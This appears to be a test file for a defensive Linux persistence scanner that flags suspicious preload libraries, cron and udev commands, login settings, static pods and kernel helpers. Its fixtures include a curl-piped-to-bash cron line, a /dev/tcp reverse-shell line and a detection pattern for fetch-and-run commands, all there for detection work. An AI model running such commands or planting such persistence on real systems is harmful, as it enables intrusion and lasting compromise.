import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { survivesAnyText } from "../../../test/hostile-input.ts";
import {
  atJobPoints,
  binaryFormatPoints,
  cronPoints,
  engineHookPoint,
  fetchesAndRuns,
  generatorPoint,
  kernelHelperPaths,
  kernelHelperPoints,
  type PersistencePoint,
  preloadPoints,
  profilePoints,
  releaseAgentPoints,
  staticPodPoints,
  udevPoints,
} from "./persistence-points.ts";

const told = (points: readonly PersistencePoint[]) =>
  points.map(({ kind, what, suspicious }) => [kind, what, suspicious]);
const open = "it runs from a folder that others may write to";
const fetched = "it fetches and runs code";
const readers: readonly (readonly [string, (text: string) => readonly PersistencePoint[]])[] = [
  ["preload", (text) => preloadPoints(text, "/etc/ld.so.preload")],
  ["crontab", (text) => [...cronPoints(text, "/etc/crontab", true), ...cronPoints(text, "/var/spool/cron/a", false)]],
  ["at", atJobPoints],
  ["udev", (text) => udevPoints(text, "/etc/udev/rules.d/x.rules")],
  ["profile", (text) => profilePoints(text, "/etc/profile")],
  ["static pod", staticPodPoints],
  ["binary format", (text) => binaryFormatPoints(text, "/proc/sys/fs/binfmt_misc/x")],
  ["helper", (text) => kernelHelperPaths.flatMap((path) => kernelHelperPoints(text, path))],
  ["release agent", (text) => releaseAgentPoints(text, "/sys/fs/cgroup/x/release_agent")],
];

describe("points of persistence", () => {
  it("are libraries that are loaded into every program", () => {
    expect(told(preloadPoints("/lib/x.so\n", "f"))).toEqual([
      ["preload", "/lib/x.so", "it is loaded into every program"],
    ]);
    expect(preloadPoints(" \n", "f")).toEqual([]);
  });

  it("are commands of crontabs, judged by what they run", () => {
    const text = "SHELL=/bin/sh\n# x\n1 2 * * * root run-parts /etc/cron.daily\n@reboot root /tmp/x\n";
    expect(told(cronPoints(text, "f", true))).toEqual([
      ["cron", "root: run-parts /etc/cron.daily", undefined],
      ["cron", "root: /tmp/x", open],
    ]);
    expect(told(cronPoints("* * * * * curl -s http://x | bash\n", "f", false))).toEqual([
      ["cron", "curl -s http://x | bash", fetched],
    ]);
  });

  it("are jobs of at, by the name of the file alone", () => {
    expect(atJobPoints("/var/spool/cron/atjobs/a00001019c8f3d")).toHaveLength(1);
    expect(["/var/spool/cron/atjobs/.SEQ", "/var/spool/at/spool"].flatMap(atJobPoints)).toEqual([]);
  });

  it("are commands of udev, each of a line", () => {
    expect(told(udevPoints('ACTION=="add", RUN+="/dev/shm/x", RUN+="/bin/true"', "f"))).toEqual([
      ["udev", "/dev/shm/x", open],
      ["udev", "/bin/true", undefined],
    ]);
  });

  it.each([
    ["export LD_PRELOAD=/x.so", [["profile", "it sets LD_PRELOAD for logins"]]],
    ["unset LD_PRELOAD=x", []],
    ["# LD_PRELOAD=/x.so", []],
    ["LD_PRELOAD=", []],
    ["PATH=/usr/bin:.:/bin", [["path", "the search path holds the current or an open folder"]]],
    ['export PATH="/tmp/x:/bin"', [["path", "the search path holds the current or an open folder"]]],
    ["PATH=$PATH:/opt/bin", []],
    ["bash -i >& /dev/tcp/10.0.0.1/9 0>&1", [["profile", fetched]]],
    ["alias ll='ls -l'", []],
  ])("are settings of logins: %s", (line, expected) => {
    expect(profilePoints(`${line}\n`, "f").map(({ kind, suspicious }) => [kind, suspicious])).toEqual(expected);
  });

  it("are static pods, by their name", () => {
    const folder = "/etc/kubernetes/manifests";
    expect(staticPodPoints(`${folder}/etcd.yaml`)[0]?.suspicious).toBeUndefined();
    expect(staticPodPoints(`${folder}/x.json`)[0]?.suspicious).toBe("it is no part of the control plane");
    expect(staticPodPoints(`${folder}/notes.txt`)).toEqual([]);
  });

  it("are interpreters, generators and hooks", () => {
    expect(told(binaryFormatPoints("enabled\ninterpreter /usr/bin/q\nflags: OC\n", "f"))).toEqual([
      ["binary-format", "/usr/bin/q (flags OC)", "it runs with the rights of what it interprets"],
    ]);
    expect(told(binaryFormatPoints("enabled\ninterpreter /tmp/q\nflags: \n", "f"))).toEqual([
      ["binary-format", "/tmp/q (flags none)", open],
    ]);
    expect(binaryFormatPoints("enabled\n", "f")).toEqual([]);
    expect(generatorPoint("/etc/systemd/system-generators/x").suspicious).toBe("no package brings generators there");
    expect(engineHookPoint("/etc/cdi/x.json").suspicious).toBeUndefined();
  });

  it.each([
    ["/proc/sys/kernel/core_pattern", "core.%p", undefined],
    ["/proc/sys/kernel/core_pattern", "|/usr/lib/systemd/systemd-coredump %P", undefined],
    ["/proc/sys/kernel/core_pattern", "|/tmp/x", "unusual"],
    ["/proc/sys/kernel/modprobe", "/sbin/modprobe", undefined],
    ["/proc/sys/kernel/modprobe", "/tmp/x", "unusual"],
    ["/sys/kernel/uevent_helper", "", "none"],
    ["/proc/sys/kernel/poweroff_cmd", "", "unusual"],
  ])("are helpers of the kernel: %s is %j", (path, value, expected) => {
    const found = kernelHelperPoints(`${value}\n`, path);
    expect(found.length === 0 ? "none" : found[0]!.suspicious && "unusual").toBe(expected);
  });

  it("are release agents", () => {
    expect(releaseAgentPoints("\n", "f")).toEqual([]);
    expect(releaseAgentPoints("/usr/lib/systemd/systemd-cgroups-agent\n", "f")[0]!.suspicious).toBeUndefined();
    expect(releaseAgentPoints("/x\n", "f")[0]!.suspicious).toMatch(/control group/);
  });

  it("show no more of a command than 200 characters", () => {
    expect(preloadPoints("x".repeat(1_000), "f")[0]!.what).toHaveLength(200);
  });
});

describe("a command that fetches and runs", () => {
  it("is told as by one pattern, which would take time by the square", () => {
    const pattern = /(curl|wget)\b[^|]*\|\s*(ba|da|z)?sh\b|base64\s+(-d|--decode)[^|]*\|\s*(ba|da|z)?sh|\/dev\/tcp\//;
    const pieces = ["curl", "wget", "base64", "-d", "--decode", " ", "|", "sh", "bash", "dash", "x", "\n", "/dev/tcp/"];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 9 }), (words) => {
        expect(fetchesAndRuns(words.join(""))).toBe(pattern.test(words.join("")));
      }),
      { numRuns: 3_000 },
    );
  });
});

describe.each(readers)("a text for points of persistence (%s)", (_kind, read) => {
  it("may be any", () => {
    survivesAnyText(read, [
      "curl ",
      "| sh",
      "\n",
      "* * * * * ",
      "root ",
      "PATH=",
      "RUN+=",
      '"',
      "|/tmp/",
      "interpreter ",
    ]);
  });

  it("is read to its end however it is made", () => {
    for (const piece of ["curl ", "base64 ", "| ", "PATH=:", "/tmp", "\n", "RUN+=", "* ", "LD_PRELOAD ", " = "]) {
      read(piece.repeat(200_000));
    }
  });
});
